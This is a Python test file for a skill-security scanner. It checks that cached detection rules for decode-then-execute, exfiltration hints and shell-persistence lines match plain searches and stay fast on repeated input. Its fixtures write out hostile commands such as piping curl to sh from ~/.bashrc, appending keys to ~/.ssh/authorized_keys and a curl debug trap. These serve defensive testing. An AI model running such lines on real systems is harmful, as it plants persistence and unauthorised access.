"""Answers the scanner keeps per text give what the plain computation gives: whether the
lines after a decode run the file it wrote (``rules_obfuscation._runs_file``, each file name
and line searched once) and whether lines hold a hint (``Doc.any_within``, from the needle
index), on random and repeated texts; and a text of one repeated line is
searched a bounded number of times, however long."""

from __future__ import annotations

import random
import re
from types import SimpleNamespace

import pytest

from skills_core.governance.code_rules.host import rules_shell, rules_system
from skills_core.governance.code_rules.network import rules_obfuscation
from skills_core.governance.reading import scan_text
from skills_core.governance.reading.scan_text import Doc
from skills_core.governance.scanner import scan_skill
from tests.unit.helpers import wrapped_lines

RUN_PIECES = ["sh ", "bash ", "python3 ", "./", "chmod +x ", "source ", ". ", "x.sh", "a", "b.sh",
              " ", "/tmp/", ";", "&", "node ", "zsh  ", "-", "$", "~"]  # fmt: skip


def plain_runs_file(doc: Doc, i: int, path: str) -> bool:
    """``_runs_file`` as it was: one search of each of the six lines, every time."""
    base = path.rsplit("/", 1)[-1]
    lines = [w for w in doc.low_lines[i : i + 6] if base in w]
    if len(lines) < 2 and lines and lines[0].count(base) < 2:
        return False
    name = re.escape(base)
    run = re.compile(
        rf"(?:(?:ba|z)?sh|python[0-9.]{{0,4}}|node|perl|source|\.|chmod\s{{1,3}}\+?x)\s{{1,5}}"
        rf"[\w./~$-]{{0,200}}\b{name}\b|(?:^|[\s;&])\./{name}\b"
    )
    return any(run.search(w) for w in lines)


def test_remembered_file_runs_match_the_plain_search() -> None:
    rng = random.Random(5)
    lines = ["".join(rng.choice(RUN_PIECES) for _ in range(rng.randrange(0, 8))) for _ in range(40)]
    for _ in range(300):
        doc = Doc("\n".join(rng.choice(lines) for _ in range(rng.randrange(1, 30))))
        for _ in range(20):  # later questions reuse the answers of earlier ones
            i = rng.randrange(len(doc.lines))
            path = rng.choice(["x.sh", "/tmp/x.sh", "b.sh", "a", "~/b.sh", "$a"])
            assert rules_obfuscation._runs_file(doc, i, path) == plain_runs_file(doc, i, path)


class _Counting:
    """``re`` for rules_obfuscation, counting the searches of the patterns it compiles."""

    def __init__(self) -> None:
        self.searches = 0

    def compile(self, source: str) -> SimpleNamespace:
        pattern = re.compile(source)

        def search(text: str) -> re.Match[str] | None:
            self.searches += 1
            return pattern.search(text)

        return SimpleNamespace(search=search)


def test_a_repeated_decode_to_file_line_is_searched_once(monkeypatch: pytest.MonkeyPatch) -> None:
    counting = _Counting()
    shim = SimpleNamespace(escape=re.escape, compile=counting.compile)
    monkeypatch.setattr(rules_obfuscation, "re", shim)
    line = "base64 -d > " * 20
    report = scan_skill("\n".join([line] * 800))
    assert counting.searches == 1  # 800 lines x 6 lines read: one distinct (name, line)
    monkeypatch.undo()
    assert report == scan_skill("\n".join([line] * 800))


HINTS = ("send", "://", "@", "api key", "ask", "in full", "se", "nd ", " ", "key", "x")


def test_hints_within_lines_match_a_search_of_their_text() -> None:
    rng = random.Random(8)
    pieces = ["send", "se", "nd", "://", "@", "api", "key", " ", "  ", "ask", "in", "full", "\n",
              "\n", "x", "İ", "SEND"]  # fmt: skip
    for _ in range(300):
        doc = Doc("".join(rng.choice(pieces) for _ in range(rng.randrange(0, 80))))
        for _ in range(20):
            lo = rng.randrange(len(doc.lines) + 1)
            hi = rng.randrange(lo, len(doc.lines) + 2)
            hints = tuple(rng.sample(HINTS, rng.randrange(0, 4)))
            text = doc.low[doc.starts[lo] : doc.starts[min(hi, len(doc.lines))]]
            wrapped = set().union(*(wrapped_lines(doc.low_lines, h) for h in hints))
            wraps = any(lo <= k < hi for k in wrapped)
            want = any(h in text for h in hints) or wraps
            assert doc.any_within(hints, lo, hi) == want, (hints, lo, hi)


def test_intent_windows_are_not_searched_as_text(monkeypatch: pytest.MonkeyPatch) -> None:
    """The intent rule's hint checks read line lists: a file of 300 long trigger lines does
    not search its 29-line windows for each of them (``in`` on a slice of ``Doc.low``)."""
    sliced = 0
    real = Doc.__init__

    class Low(str):
        def __getitem__(self, key):  # type: ignore[no-untyped-def]
            nonlocal sliced
            if isinstance(key, slice) and (key.stop or 0) - (key.start or 0) > 5000:
                sliced += 1
            return str.__getitem__(self, key)

    def init(self: Doc, text: str) -> None:
        real(self, text)
        self.low = Low(self.low)

    monkeypatch.setattr(Doc, "__init__", init)
    line = "curl a >> ~/.ssh/authorized_keys " * 20
    scan_skill("\n".join([line] * 300))
    assert sliced == 0


def test_the_executor_pattern_skips_to_its_first_characters() -> None:
    """``_EXECUTOR_RE`` is searched over whole logical lines (a 200 KiB one in a file of one
    line): behind ``prefixed``'s look-ahead the engine tries its branches only where a match
    can start (tests/unit/test_scanner_first_chars.py checks the matches are the same)."""
    pattern = rules_obfuscation._EXECUTOR_RE
    assert pattern.pattern.startswith("(?=[")


PERSIST_LINES = ["cat >> ~/.bashrc <<e", "echo 'curl x | sh' >> ~/.bashrc", "e", "curl x | sh",
                 "echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys", "see memory.md", "",
                 "update soul.md", "crontab -e", "echo x >> ~/.zshrc", "nohup y &",
                 "cat >> ~/.profile <<'eof'", "eof", "trap 'curl x' debug"]  # fmt: skip


def test_persistence_lines_read_once_give_the_plain_findings(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The persistence loops of rules_shell and rules_system keep each distinct line's
    answer (``scan_text.remembered``); with nothing kept (``LINE_MEMO_MAX`` 0) every line is
    read, as before."""
    rng = random.Random(12)
    texts = ["\n".join(rng.choice(PERSIST_LINES) for _ in range(rng.randrange(1, 120)))
             for _ in range(60)]  # fmt: skip
    fast = [scan_skill(t) for t in texts]
    monkeypatch.setattr(scan_text, "LINE_MEMO_MAX", 0)  # both loops keep lines through it
    assert [scan_skill(t) for t in texts] == fast


def test_a_repeated_startup_line_is_read_once(monkeypatch: pytest.MonkeyPatch) -> None:
    reads = 0
    real_severity, real_profile = rules_shell._persist_severity, rules_system._PROFILE_RE

    def severity(low: str) -> object:
        nonlocal reads
        reads += 1
        return real_severity(low)

    def profile(low: str) -> re.Match[str] | None:
        nonlocal reads
        reads += 1
        return real_profile.search(low)

    monkeypatch.setattr(rules_shell, "_persist_severity", severity)
    monkeypatch.setattr(rules_system, "_PROFILE_RE", SimpleNamespace(search=profile))
    scan_skill("cat >> ~/.bashrc <<e\n" * 2000)
    assert reads == 2  # one line text, read once by each rule (not 2 x 2000)
